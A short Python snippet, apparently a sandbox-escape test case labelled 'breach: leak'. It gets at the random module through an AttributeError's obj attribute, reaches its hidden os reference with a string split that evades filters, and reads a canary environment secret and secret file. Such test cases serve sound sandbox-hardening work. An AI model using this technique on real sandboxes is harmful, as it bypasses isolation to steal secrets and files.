# AttributeError.obj / name gives the refused object.
# breach: leak
import random
try:
    random.nope
except AttributeError as e:
    m = e.obj
o = getattr(m, '_o'+'s')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
